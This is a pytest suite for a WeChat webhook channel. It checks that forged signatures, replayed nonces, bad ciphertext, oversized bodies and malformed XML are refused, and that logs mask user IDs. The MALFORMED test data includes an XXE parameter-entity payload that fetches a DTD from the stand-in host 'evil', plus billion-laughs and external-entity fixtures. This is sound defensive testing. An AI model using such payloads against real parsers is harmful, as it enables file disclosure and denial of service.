"""Requests the channel must refuse -- before the engine sees anything -- and how it refuses them."""

from __future__ import annotations

import base64
import logging
import socket
import struct
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from wechatpy.crypto import WeChatCrypto
from wechatpy.crypto.cryptography import WeChatCipher

from channels.wechat import WeChatAccountConfig, WeChatChannel, mask_openid
from tests.fakes.wechat_client import WeChatOwner, cdata, sign
from tests.wechat.conftest import AES_KEY, APP_ID, NOW, OPENID, TOKEN, ChannelFactory, FakeSink, FrozenClock

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "wechat"


def fixture(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


# -- server URL verification (GET) -----------------------------------------------------------------


async def test_get_echoes_echostr_when_signed(owner: WeChatOwner) -> None:
    response = await owner.verify_url("5838479218127813673")
    assert (response.status, response.body) == (200, "5838479218127813673")


async def test_get_with_forged_signature_is_refused(owner: WeChatOwner) -> None:
    response = await owner.verify_url("1", signature="0" * 40)
    assert response.status == 403
    assert "1" not in response.body


async def test_get_with_stale_timestamp_is_refused(owner: WeChatOwner) -> None:
    response = await owner.verify_url("1", timestamp=str(int(NOW) - 301))
    assert response.status == 403


async def test_get_without_echostr_is_a_bad_request(client: TestClient[Any, Any]) -> None:
    ts, nonce = str(int(NOW)), "42"
    response = await client.get(
        "/wechat/default", params={"signature": sign(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce}
    )
    assert response.status == 400


async def test_unknown_account_is_404(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, account="nosuch", clock=clock)
    assert (await owner.verify_url()).status == 404
    assert (await owner.post(owner.text_xml("hi"))).status == 404
    assert sink.messages == []


# -- unverifiable: 403 ----------------------------------------------------------------------------


async def test_forged_signature(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"signature": "f" * 40})
    assert response.status == 403
    assert sink.messages == []


@pytest.mark.parametrize("mode", ["compat", "safe"])
async def test_forged_msg_signature(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"msg_signature": "0" * 40})
    assert response.status == 403
    assert sink.messages == []


@pytest.mark.parametrize("mode", ["compat", "safe"])
async def test_safe_mode_without_msg_signature(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"msg_signature": None, "signature": None})
    assert response.status == 403
    assert sink.messages == []


async def test_missing_signature_in_plaintext_mode(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), mode="plain", query={"signature": None})
    assert response.status == 403
    assert sink.messages == []


async def test_non_ascii_signature_is_refused_not_crashed(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"signature": "签名" * 20})
    assert response.status == 403
    assert sink.messages == []


@pytest.mark.parametrize("skew", [-301, 301, -86400 * 365])
async def test_stale_or_future_timestamp(owner: WeChatOwner, sink: FakeSink, skew: int) -> None:
    response = await owner.post(owner.text_xml("hi"), timestamp=str(int(NOW) + skew))
    assert response.status == 403
    assert sink.messages == []


async def test_timestamp_inside_the_window_is_accepted(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), timestamp=str(int(NOW) - 299))
    assert response.status == 200


@pytest.mark.parametrize("timestamp", ["", "abc", "1e9", "-5", "１７００"])
async def test_malformed_timestamp(owner: WeChatOwner, sink: FakeSink, timestamp: str) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"timestamp": timestamp})
    assert response.status == 403
    assert sink.messages == []


async def test_replaying_a_valid_request_later_is_refused(
    owner: WeChatOwner, sink: FakeSink, clock: FrozenClock
) -> None:
    query, body = owner.signed_request(owner.text_xml("hi"))
    first = await owner.client.post(owner.path, params=query, data=body)
    assert first.status == 200
    clock.now += 3600
    again = await owner.client.post(owner.path, params=query, data=body)
    assert again.status == 403
    assert len(sink.messages) == 1


@pytest.mark.parametrize("mode", ["compat", "safe"])
async def test_ciphertext_for_another_app_id(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), encrypt_app_id="wxSOMEONEELSE0000")
    assert response.status == 403
    assert sink.messages == []


def _encrypt_raw(plaintext: bytes) -> str:
    key = WeChatCrypto(TOKEN, AES_KEY, APP_ID).key
    return base64.b64encode(WeChatCipher(key).encrypt(plaintext)).decode()


def _framed(xml: bytes, app_id: str = APP_ID) -> bytes:
    return b"0123456789abcdef" + struct.pack("I", socket.htonl(len(xml))) + xml + app_id.encode()


def _pad(data: bytes, byte: int, count: int | None = None) -> bytes:
    count = 32 - len(data) % 32 if count is None else count
    return data + bytes([byte]) * count


@pytest.mark.parametrize(
    "case", ["zero_padding", "padding_over_32", "truncated_length", "not_block_aligned", "not_base64"]
)
async def test_undecryptable_ciphertext(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock, case: str
) -> None:
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, clock=clock)
    framed = _framed(owner.text_xml("hi").encode())
    if case == "zero_padding":
        encrypt = _encrypt_raw(_pad(framed, 0))
    elif case == "padding_over_32":
        n = 32 - len(framed) % 32
        encrypt = _encrypt_raw(_pad(framed, 0x7F, n))
    elif case == "truncated_length":
        bogus = b"0123456789abcdef" + struct.pack("I", socket.htonl(10**6)) + framed[20:]
        encrypt = _encrypt_raw(_pad(bogus, 32 - len(bogus) % 32))
    elif case == "not_block_aligned":
        encrypt = base64.b64encode(b"x" * 33).decode()
    else:
        encrypt = "!!!not base64!!!"
    ts, nonce = str(int(NOW)), "1234"
    body = f"<xml><ToUserName>{cdata('gh_x')}</ToUserName><Encrypt>{cdata(encrypt)}</Encrypt></xml>"
    response = await client.post(
        "/wechat/default",
        data=body.encode(),
        params={
            "signature": sign(TOKEN, ts, nonce),
            "timestamp": ts,
            "nonce": nonce,
            "encrypt_type": "aes",
            "msg_signature": sign(TOKEN, ts, nonce, encrypt),
        },
    )
    assert response.status == 403
    assert sink.messages == []


async def test_encrypted_message_for_an_account_without_aes_key(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    owner = WeChatOwner(
        client,
        token="plain-token",
        app_id="wxplain000000000",
        aes_key=AES_KEY,
        account="plain",
        mode="safe",
        clock=clock,
    )
    response = await owner.post(owner.text_xml("hi"))
    assert response.status == 403
    assert sink.messages == []


# -- too large: 413 -------------------------------------------------------------------------------


async def test_oversized_body_by_content_length(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock
) -> None:
    client = await make_client(max_body_bytes=1024)
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, clock=clock)
    response = await owner.post(owner.text_xml("漏" * 1000))
    assert response.status == 413
    assert sink.messages == []


async def test_oversized_chunked_body_without_content_length(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock
) -> None:
    client = await make_client(max_body_bytes=1024)
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, clock=clock)
    query, body = owner.signed_request(owner.text_xml("漏" * 1000))

    async def chunks() -> Any:
        for i in range(0, len(body), 100):
            yield body[i : i + 100]

    response = await client.post(owner.path, params=query, data=chunks())
    assert response.status == 413
    assert sink.messages == []


async def test_body_just_under_the_limit_is_fine(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock
) -> None:
    client = await make_client(max_body_bytes=4096)
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, clock=clock)
    assert (await owner.post(owner.text_xml("漏" * 1000))).status == 200


# -- malformed: 400 -------------------------------------------------------------------------------

MALFORMED = {
    "not_xml": b"hello",
    "truncated": b"<xml><ToUserName><![CDATA[toUser]]></ToUserName><Content>",
    "wrong_root": b"<message><MsgType>text</MsgType></message>",
    "empty_root": b"<xml/>",
    "empty_body": b"",
    "no_msgtype": b"<xml><FromUserName>o1</FromUserName><CreateTime>1</CreateTime></xml>",
    "no_sender": b"<xml><MsgType>text</MsgType><CreateTime>1</CreateTime></xml>",
    "bad_create_time": b"<xml><FromUserName>o1</FromUserName><CreateTime>yesterday</CreateTime>"
    b"<MsgType>text</MsgType></xml>",
    "nested_msgtype": b"<xml><FromUserName>o1</FromUserName><CreateTime>1</CreateTime>"
    b"<MsgType><a>text</a></MsgType></xml>",
    "bad_latitude": b"<xml><FromUserName>o1</FromUserName><CreateTime>1</CreateTime><MsgType>location"
    b"</MsgType><Location_X>north</Location_X><Location_Y>1</Location_Y><MsgId>1</MsgId></xml>",
    "not_utf8": b"<xml><FromUserName>o1</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>"
    b"<Content>\xe9t\xe9 \xff</Content></xml>",
    "billion_laughs": fixture("billion_laughs.xml").encode(),
    "external_entity": fixture("external_entity.xml").encode(),
    "internal_dtd": b'<?xml version="1.0"?><!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><FromUserName>o1'
    b"</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
    "parameter_entity": b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>'
    b"<xml/>",
}


# compatible mode embeds the plaintext inside <xml>…</xml>, so only such documents can be sent that way
MALFORMED_CASES = [
    (mode, case)
    for case, payload in sorted(MALFORMED.items())
    for mode in ("plain", "compat", "safe")
    if mode != "compat" or (b"</xml>" in payload and case != "not_utf8")
]


@pytest.mark.parametrize(("mode", "case"), MALFORMED_CASES)
async def test_malformed_documents_are_bad_requests(
    owner: WeChatOwner, sink: FakeSink, mode: str, case: str
) -> None:
    payload = MALFORMED[case]
    if mode == "plain":
        response = await owner.post(payload)
    elif mode == "safe":
        # the hostile document is the *decrypted* payload: it passed the signature and the AppId check
        response = await owner.post(payload, mode="safe")
    else:
        response = await owner.post(payload, mode="compat")
    if mode == "safe" and case == "not_utf8":
        # wechatpy decodes the plaintext before it compares the AppId: indistinguishable from a forgery
        assert response.status == 403, response.body
    else:
        assert response.status == 400, (case, response.body)
    assert sink.messages == []


async def test_hostile_outer_document_in_safe_mode(owner: WeChatOwner, sink: FakeSink) -> None:
    _, body = owner.signed_request(owner.text_xml("hi"), mode="safe")
    hostile = fixture("billion_laughs.xml").replace("<xml>", "<xml>" + body.decode()[5:-6], 1)
    response = await owner.post(owner.text_xml("hi"), mode="safe", body=hostile.encode())
    assert response.status == 400
    assert sink.messages == []


async def test_unknown_encrypt_type(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), query={"encrypt_type": "rot13"})
    assert response.status == 400
    assert sink.messages == []


@pytest.mark.parametrize("mode", ["safe"])
async def test_encrypted_body_without_encrypt_element(owner: WeChatOwner, sink: FakeSink) -> None:
    response = await owner.post(owner.text_xml("hi"), body=b"<xml><ToUserName>gh</ToUserName></xml>")
    assert response.status == 400
    assert sink.messages == []


# -- observability ----------------------------------------------------------------------------------


async def test_every_rejection_is_logged_and_counted_with_a_masked_openid(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock, caplog: pytest.LogCaptureFixture
) -> None:
    rejected: list[tuple[str, str]] = []
    client = await make_client(on_rejected=lambda account, reason: rejected.append((account, reason)))
    owner = WeChatOwner(client, token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, openid=OPENID, clock=clock)
    with caplog.at_level(logging.WARNING, logger="yezhu.wechat"):
        await owner.post(owner.text_xml("hi"), query={"signature": "0" * 40})
        await owner.post(owner.text_xml("hi"), timestamp="1")
        await owner.post(owner.text_xml("hi"), encrypt_app_id="wxOTHER")
        await owner.post(MALFORMED["billion_laughs"], mode="plain")
        other = WeChatOwner(client, token=TOKEN, app_id=APP_ID, account="nosuch", clock=clock)
        await other.post(other.text_xml("hi"))
    assert rejected == [
        ("default", "bad_signature"),
        ("default", "stale_timestamp"),
        ("default", "decrypt_failed"),
        ("default", "forbidden_xml"),
        ("-", "unknown_account"),
    ]
    records = [r for r in caplog.records if r.name == "yezhu.wechat"]
    assert len(records) == 5
    assert all(r.levelno == logging.WARNING for r in records)
    text = "\n".join(r.getMessage() for r in records)
    assert OPENID not in text
    assert mask_openid(OPENID) in text
    assert TOKEN not in text


def test_mask_openid() -> None:
    assert mask_openid("oDEMO0001") == "oDEM***"
    assert mask_openid(None) == "-"


def test_config_repr_hides_secrets() -> None:
    config = WeChatAccountConfig(
        name="x", token="tok-secret", app_id="wx1", app_secret="app-secret", aes_key=AES_KEY
    )
    assert "secret" not in repr(config)
    assert AES_KEY not in repr(config)


@pytest.mark.parametrize("bad_key", ["short", AES_KEY + "A", "!" * 43])
def test_a_wrong_encoding_aes_key_fails_at_start_up(bad_key: str) -> None:
    account = WeChatAccountConfig(name="x", token="t", app_id="wx1", app_secret="s", aes_key=bad_key)
    with pytest.raises(ValueError, match="EncodingAESKey"):
        WeChatChannel({"x": account}, FakeSink())


def test_mode_and_key_must_agree_at_start_up() -> None:
    for mode in ("safe", "compatible"):
        account = WeChatAccountConfig(name="x", token="t", app_id="wx1", app_secret="s", mode=mode)  # type: ignore[arg-type]
        with pytest.raises(ValueError, match="needs an EncodingAESKey"):
            WeChatChannel({"x": account}, FakeSink())
    account = WeChatAccountConfig(name="x", token="t", app_id="wx1", app_secret="s", aes_key=AES_KEY,
                                  mode="plaintext")
    with pytest.raises(ValueError, match="choose safe"):
        WeChatChannel({"x": account}, FakeSink())
    assert WeChatAccountConfig(name="x", token="t", app_id="wx1", app_secret="s", aes_key=AES_KEY).encoding_mode \
        == "safe"


# -- downgrade: an account with an EncodingAESKey ----------------------------------------------------


def safe_owner(client: TestClient[Any, Any], clock: FrozenClock, mode: Any = "safe") -> WeChatOwner:
    """An owner of the ``safe`` account (EncodingAESKey, mode not configured: safe)."""
    return WeChatOwner(client, token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, openid=OPENID, account="safe",
                       mode=mode, clock=clock)


async def test_safe_mode_refuses_plaintext_bodies(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    owner = safe_owner(client, clock, "plain")
    # correctly signed (the URL signature covers only token, timestamp and nonce), but not encrypted
    response = await owner.post(owner.text_xml("查一下我的房产证"))
    assert (response.status, response.body) == (403, "plaintext_refused")
    # the same with a compatible-looking body (plaintext fields next to an <Encrypt>) but no encrypt_type
    _, compat_body = owner.signed_request(owner.text_xml("查一下我的房产证"), mode="compat")
    response = await owner.post(owner.text_xml("x"), body=compat_body)
    assert (response.status, response.body) == (403, "plaintext_refused")
    assert sink.messages == []
    # what WeChat sends in safe mode still works, and so does a compatible-mode push (it is encrypted)
    for mode in ("safe", "compat"):
        assert (await safe_owner(client, clock, mode).post(owner.text_xml("你好"))).status == 200
    assert [m.text for m in sink.messages] == ["你好", "你好"]


async def test_compatible_mode_configured_accepts_both(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    for mode in ("plain", "compat", "safe"):
        owner = owner_for_default(client, clock, mode)
        response = await owner.post(owner.text_xml(f"{mode} 你好"))
        assert response.status == 200, (mode, response.body)
    assert [m.text for m in sink.messages] == ["plain 你好", "compat 你好", "safe 你好"]


def owner_for_default(client: TestClient[Any, Any], clock: FrozenClock, mode: Any) -> WeChatOwner:
    return WeChatOwner(client, token=TOKEN, app_id=APP_ID, aes_key=AES_KEY, openid=OPENID, mode=mode,
                       clock=clock)


# -- replay: a captured (timestamp, nonce, signature) ------------------------------------------------


async def raw_post(client: TestClient[Any, Any], account: str, query: dict[str, str], body: bytes) -> tuple[int, str]:
    async with client.post(f"/wechat/{account}", params=query, data=body,
                           headers={"Content-Type": "text/xml"}) as response:
        return response.status, await response.text()


@pytest.mark.parametrize("mode", ["plain", "compat", "safe"])
async def test_a_captured_url_cannot_carry_another_body(
    owner: WeChatOwner, client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    query, body = owner.signed_request(owner.text_xml("卫生间漏水"), timestamp=str(int(NOW)), nonce="1234567")
    assert (await raw_post(client, "default", query, body))[0] == 200
    # an attacker replays the push URL within the window with a body of their own choosing
    clock.now += 120
    for text in ("我的房产证办好了吗", "卫生间漏水 "):
        forged_query, forged = owner.signed_request(owner.text_xml(text), timestamp=str(int(NOW)), nonce="1234567")
        assert forged != body
        assert await raw_post(client, "default", forged_query, forged) == (403, "replayed_nonce")
    assert [m.text for m in sink.messages] == ["卫生间漏水"]


@pytest.mark.parametrize("mode", ["plain", "compat", "safe"])
async def test_wechat_retries_with_the_identical_body_get_through(
    owner: WeChatOwner, client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    query, body = owner.signed_request(owner.text_xml("电梯坏了"), timestamp=str(int(NOW)), nonce="77")
    for _ in range(3):  # WeChat retries after 5 s, up to three times, repeating everything
        assert (await raw_post(client, "default", query, body))[0] == 200
        clock.now += 5
    assert [m.msg_id for m in sink.messages] == [sink.messages[0].msg_id] * 3  # the engine de-duplicates
    # another nonce (or another timestamp) is another request
    q2, b2 = owner.signed_request(owner.text_xml("还有门禁"), timestamp=str(int(NOW)), nonce="78")
    assert (await raw_post(client, "default", q2, b2))[0] == 200
    q3, b3 = owner.signed_request(owner.text_xml("还有门禁卡"), timestamp=str(int(NOW) + 1), nonce="77")
    assert (await raw_post(client, "default", q3, b3))[0] == 200


async def test_nonces_are_shared_between_processes_through_the_store(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock
) -> None:
    from bot.services.memory import MemoryCache

    shared = MemoryCache()  # stands for Redis here; tests/test_webhook_hardening.py uses the real one
    first, second = await make_client(nonces=shared), await make_client(nonces=shared)
    owner = WeChatOwner(first, token="plain-token", app_id="wxplain000000000", account="plain", clock=clock)
    query, body = owner.signed_request(owner.text_xml("a"), nonce="5")
    assert (await raw_post(first, "plain", query, body))[0] == 200
    forged_query, forged = owner.signed_request(owner.text_xml("b"), timestamp=query["timestamp"], nonce="5")
    assert await raw_post(second, "plain", forged_query, forged) == (403, "replayed_nonce")
    assert (await raw_post(second, "plain", query, body))[0] == 200  # the identical retry, elsewhere
    assert [m.text for m in sink.messages] == ["a", "a"]


class BrokenNonces:
    async def set_if_absent(self, key: str, value: str, ttl: int) -> str | None:
        raise ConnectionError("redis is restarting")


async def test_an_unavailable_nonce_store_does_not_refuse_wechat(
    make_client: ChannelFactory, sink: FakeSink, clock: FrozenClock, caplog: pytest.LogCaptureFixture
) -> None:
    client = await make_client(nonces=BrokenNonces())
    owner = WeChatOwner(client, token="plain-token", app_id="wxplain000000000", account="plain", clock=clock)
    with caplog.at_level(logging.WARNING, logger="yezhu.wechat"):
        assert (await owner.post(owner.text_xml("你好"))).status == 200
        assert (await owner.post(owner.text_xml("你好"))).status == 200
    assert len(sink.messages) == 2
    skipped = [r.getMessage() for r in caplog.records if "replay check skipped" in r.getMessage()]
    assert len(skipped) == 1 and "ConnectionError" in skipped[0]  # one line, not one per request


# -- fields no WeChat message has ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [("FromUserName", "o" * 101), ("FromUserName", "o" * 65), ("FromUserName", "业主"),
     ("FromUserName", "o 1"), ("MsgId", "1" * 101), ("MsgId", "1" * 65), ("MsgId", "²³"), ("MsgId", "１２３")],
)
async def test_ids_no_wechat_message_has_are_bad_requests(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock, field: str, value: str
) -> None:
    owner = WeChatOwner(client, token="plain-token", app_id="wxplain000000000", account="plain", clock=clock)
    xml = owner.text_xml("你好", msg_id=123456)
    if field == "FromUserName":
        xml = xml.replace(cdata(OPENID), cdata(value))
    else:
        xml = xml.replace("<MsgId>123456</MsgId>", f"<MsgId>{value}</MsgId>")
    response = await owner.post(xml)
    assert response.status == 400 and response.body == "malformed_message"
    assert sink.messages == []


async def test_an_event_with_a_long_name_gets_a_short_id(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock
) -> None:
    owner = WeChatOwner(client, token="plain-token", app_id="wxplain000000000", account="plain", clock=clock)
    xml = owner._envelope("event", f"<Event>{cdata('x' * 200)}</Event>", msg_id=False)
    assert (await owner.post(xml)).status == 200
    assert len(sink.last.msg_id) <= 64


@pytest.mark.parametrize("value", ["nan", "inf", "-Infinity", "1e999"])
async def test_non_finite_coordinates_are_bad_requests(
    client: TestClient[Any, Any], sink: FakeSink, clock: FrozenClock, value: str
) -> None:
    owner = WeChatOwner(client, token="plain-token", app_id="wxplain000000000", account="plain", clock=clock)
    xml = owner._envelope("location", f"<Location_X>{value}</Location_X><Location_Y>113.3</Location_Y>"
                          "<Scale>20</Scale><Label>x</Label>")
    assert (await owner.post(xml)).status == 400
    assert sink.messages == []
